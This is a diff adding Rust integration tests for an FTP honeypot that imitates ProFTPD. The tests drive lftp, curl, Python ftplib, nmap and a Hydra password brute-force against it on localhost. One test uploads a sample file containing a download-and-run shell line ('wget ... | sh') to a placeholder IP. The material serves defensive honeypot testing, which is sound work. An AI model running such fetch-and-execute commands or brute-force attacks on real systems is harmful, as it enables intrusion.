@@ -48,6 +48,10 @@ impl Harness {
         Self::start_full(
             |persona| {
                 persona.hostname = "localhost".to_owned();
+                // The captures' uid 1001 (a generated persona may have given it away).
+                persona
+                    .users
+                    .retain(|u| u.uid != 1001 && u.name != "ftptest");
                 persona.users.push(hpti_sensors::shell::PersonaUser {
                     name: "ftptest".to_owned(),
                     uid: 1001,
@@ -1994,5 +1998,302 @@ async fn proftpd_local_user_session_matches_the_capture() {
         )),
         "uploads are captured"
     );
+    harness.stop().await;
+}
+
+fn installed(tool: &str, version_arg: &str) -> bool {
+    std::process::Command::new(tool)
+        .arg(version_arg)
+        .output()
+        .is_ok()
+}
+
+/// lftp against the ProFTPD persona, as in `clients.txt`: it tries `AUTH TLS` (500,
+/// goes on in plain), uploads, lists with `MLSD` (`cls -l`), sets the upload's time
+/// with `MFMT`, downloads; anonymously, `CWD /pub` shows the `.message`-free listing and
+/// an upload is refused with ProFTPD's words.
+#[tokio::test]
+async fn proftpd_lftp_puts_lists_and_gets() {
+    if !installed("lftp", "--version") {
+        return tool_missing("lftp");
+    }
+    let harness = Harness::start_proftpd(|_| {}).await;
+    let work = tempfile::tempdir().unwrap();
+    std::fs::write(
+        work.path().join("kit.sh"),
+        b"wget http://198.51.100.9/k | sh\n",
+    )
+    .unwrap();
+    let commands = format!(
+        "set net:max-retries 1; set net:timeout 10; open -u ftptest,ftptest -p {} 127.0.0.1; \
+         put kit.sh; cls -l; ls; get kit.sh -o back.sh; bye",
+        harness.addr.port()
+    );
+    let output = {
+        let mut lftp = std::process::Command::new("lftp");
+        lftp.args(["-d", "-c", &commands]).current_dir(work.path());
+        run_client(lftp).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(output.status.success(), "lftp failed: {stdout}\n{stderr}");
+    for expected in [
+        "<--- 500 AUTH not understood",
+        "<--- 230 User ftptest logged in",
+        "---> MFMT ",
+        "---> MLSD",
+        "<--- 150 Opening BINARY mode data connection for kit.sh",
+    ] {
+        assert!(
+            stderr.contains(expected),
+            "{expected:?} in lftp's log:\n{stderr}"
+        );
+    }
+    assert!(
+        stdout.contains("ftptest  ftptest") && stdout.contains(" kit.sh"),
+        "cls -l and ls show the upload with owner names: {stdout}"
+    );
+    assert_eq!(
+        std::fs::read(work.path().join("back.sh")).unwrap(),
+        b"wget http://198.51.100.9/k | sh\n"
+    );
+    let anonymous = format!(
+        "set net:max-retries 1; set net:timeout 10; open -p {} 127.0.0.1; ls; put kit.sh; bye",
+        harness.addr.port()
+    );
+    let output = {
+        let mut lftp = std::process::Command::new("lftp");
+        lftp.args(["-c", &anonymous]).current_dir(work.path());
+        run_client(lftp).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(
+        stdout.contains("ftp      ftp") && stdout.contains("welcome.msg"),
+        "anonymous ls: {stdout}\n{stderr}"
+    );
+    assert!(
+        stderr.contains("put: Access failed: 550 kit.sh: Operation not permitted"),
+        "{stderr}"
+    );
+    harness.stop().await;
+}
+
+/// curl uploads as a local user and lists anonymously (EPSV, `TYPE A` listings); a wrong
+/// password is `curl: (67) Access denied: 530`.
+#[tokio::test]
+async fn proftpd_curl_uploads_lists_and_is_denied() {
+    if !installed("curl", "--version") {
+        return tool_missing("curl");
+    }
+    let harness = Harness::start_proftpd(|_| {}).await;
+    let work = tempfile::tempdir().unwrap();
+    let file = work.path().join("drop.bin");
+    std::fs::write(&file, b"\x7fELF-dropper").unwrap();
+    let base = format!("ftp://127.0.0.1:{}", harness.addr.port());
+    let run = |args: Vec<String>| async move {
+        let mut curl = std::process::Command::new("curl");
+        curl.args(["-sS", "--max-time", "20"]).args(args);
+        run_client(curl).await
+    };
+    let put = run(vec![
+        "-u".into(),
+        "ftptest:ftptest".into(),
+        "-T".into(),
+        file.display().to_string(),
+        format!("{base}/"),
+    ])
+    .await;
+    assert!(
+        put.status.success(),
+        "{}",
+        String::from_utf8_lossy(&put.stderr)
+    );
+    let list = run(vec![
+        "-u".into(),
+        "ftptest:ftptest".into(),
+        format!("{base}/"),
+    ])
+    .await;
+    let listing = String::from_utf8_lossy(&list.stdout).into_owned();
+    assert!(
+        listing
+            .lines()
+            .any(|l| l.contains("ftptest  ftptest") && l.ends_with(" drop.bin")),
+        "{listing}"
+    );
+    let anonymous = run(vec![format!("{base}/")]).await;
+    let listing = String::from_utf8_lossy(&anonymous.stdout).into_owned();
+    assert!(listing.contains(" welcome.msg"), "{listing}");
+    let denied = run(vec![
+        "-u".into(),
+        "ftptest:wrong".into(),
+        format!("{base}/"),
+    ])
+    .await;
+    assert_eq!(denied.status.code(), Some(67));
+    assert!(
+        String::from_utf8_lossy(&denied.stderr).contains("Access denied: 530"),
+        "{}",
+        String::from_utf8_lossy(&denied.stderr)
+    );
+    harness.stop().await;
+}
+
+/// Python's ftplib in passive and active mode, with MLSD's facts.
+#[tokio::test]
+async fn proftpd_python_ftplib_in_both_modes_with_mlsd() {
+    if !python_ftplib_available() {
+        return tool_missing("python3");
+    }
+    let harness = Harness::start_proftpd(|_| {}).await;
+    let script = r##"
+import ftplib, io, sys
+ftp = ftplib.FTP()
+ftp.connect(sys.argv[1], int(sys.argv[2]), timeout=20)
+print("WELCOME", ftp.getwelcome())
+print("LOGIN", ftp.login("ftptest", "ftptest"))
+print("STOR", ftp.storbinary("STOR a.bin", io.BytesIO(b"A" * 1000)))
+ftp.set_pasv(False)
+print("STOR-ACTIVE", ftp.storbinary("STOR b.bin", io.BytesIO(b"B" * 10)))
+print("NLST", sorted(n for n in ftp.nlst() if n.endswith(".bin")))
+ftp.set_pasv(True)
+facts = dict(ftp.mlsd(facts=["type", "size"]))
+print("MLSD", facts["a.bin"]["type"], facts["a.bin"]["size"], facts["."]["type"])
+got = io.BytesIO()
+ftp.retrbinary("RETR b.bin", got.write)
+print("RETR", got.getvalue())
+print("SIZE", ftp.size("a.bin"))
+print("QUIT", ftp.quit())
+"##;
+    let port = harness.addr.port().to_string();
+    let output = {
+        let mut python = std::process::Command::new("python3");
+        python.args(["-c", script, "127.0.0.1", &port]);
+        run_client(python).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        output.status.success(),
+        "ftplib failed: {stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    for expected in [
+        "WELCOME 220 ProFTPD Server (Debian) [::ffff:127.0.0.1]",
+        "LOGIN 230 User ftptest logged in",
+        "STOR 226 Transfer complete",
+        "STOR-ACTIVE 226 Transfer complete",
+        "NLST ['a.bin', 'b.bin']",
+        "MLSD file 1000 cdir",
+        "RETR b'BBBBBBBBBB'",
+        "SIZE 1000",
+        "QUIT 221 Goodbye.",
+    ] {
+        assert!(stdout.contains(expected), "{expected:?} in {stdout}");
+    }
+    harness.stop().await;
+}
+
+/// `nmap -sV -sC` names the persona `ProFTPD` (from the HELP block, after its
+/// `GenericLines` probe) and its scripts see what they saw on the real one
+/// (`testdata/ftp/proftpd-1.3.8/nmap.txt`): the anonymous listing, the bounce refusal,
+/// no ftp-syst output.
+#[tokio::test]
+async fn nmap_names_the_proftpd_persona_proftpd() {
+    if !installed("nmap", "--version") {
+        return tool_missing("nmap");
+    }
+    let harness = Harness::start_proftpd(|_| {}).await;
+    let port = harness.addr.port().to_string();
+    let output = {
+        let mut nmap = std::process::Command::new("nmap");
+        nmap.args(["-sV", "-sC", "-Pn", "-n", "-p", &port, "127.0.0.1"]);
+        run_client(nmap).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let real = proftpd_capture("nmap.txt");
+    for expected in [
+        "/tcp open  ftp     ProFTPD",
+        "ftp-bounce: server forbids bouncing to low ports <1025",
+        "ftp-anon: Anonymous FTP login allowed (FTP code 230)",
+        "ftp      ftp           170 ",
+    ] {
+        assert!(
+            stdout.contains(expected),
+            "{expected:?} in nmap's output:\n{stdout}"
+        );
+        assert!(
+            real.contains(expected),
+            "{expected:?} as against the real ProFTPD"
+        );
+    }
+    for absent in ["ftp-syst", "Service Info: OS"] {
+        assert!(!stdout.contains(absent), "{absent:?} in {stdout}");
+        assert!(!real.contains(absent));
+    }
+    harness.stop().await;
+}
+
+/// THC-Hydra's `ftp` module against the ProFTPD persona: it finds the password, and
+/// every attempt is one `login.attempt` event.
+#[tokio::test]
+async fn hydra_ftp_against_proftpd_finds_the_password() {
+    if std::process::Command::new("hydra").output().is_err() {
+        return tool_missing("hydra");
+    }
+    let harness = Harness::start_proftpd(|_| {}).await;
+    let work = tempfile::tempdir().unwrap();
+    let passwords = ["123456", "admin", "password", "ftptest", "qwerty"];
+    std::fs::write(work.path().join("pw.txt"), passwords.join("\n") + "\n").unwrap();
+    let port = harness.addr.port().to_string();
+    let list = work.path().join("pw.txt");
+    let output = {
+        let mut hydra = std::process::Command::new("hydra");
+        hydra.args(["-l", "ftptest", "-P"]).arg(&list).args([
+            "-t",
+            "2",
+            "-s",
+            &port,
+            "-I",
+            "127.0.0.1",
+            "ftp",
+        ]);
+        run_client(hydra).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        stdout.contains("login: ftptest   password: ftptest"),
+        "hydra found it: {stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let events = harness
+        .wait_for("hydra's sessions to close", |events| {
+            let opened = events
+                .iter()
+                .filter(|e| matches!(e.kind, EventKind::SessionStarted))
+                .count();
+            let closed = events
+                .iter()
+                .filter(|e| matches!(e.kind, EventKind::SessionClosed { .. }))
+                .count();
+            opened > 0 && opened == closed
+        })
+        .await;
+    let mut attempts: Vec<String> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::LoginAttempt { password, .. } => password.clone(),
+            _ => None,
+        })
+        .collect();
+    attempts.sort();
+    let before = attempts.len();
+    attempts.dedup();
+    assert_eq!(
+        attempts.len(),
+        before,
+        "no attempt logged twice: {attempts:?}"
+    );
+    assert!(attempts.contains(&"ftptest".to_owned()), "{attempts:?}");
     harness.stop().await;
 }
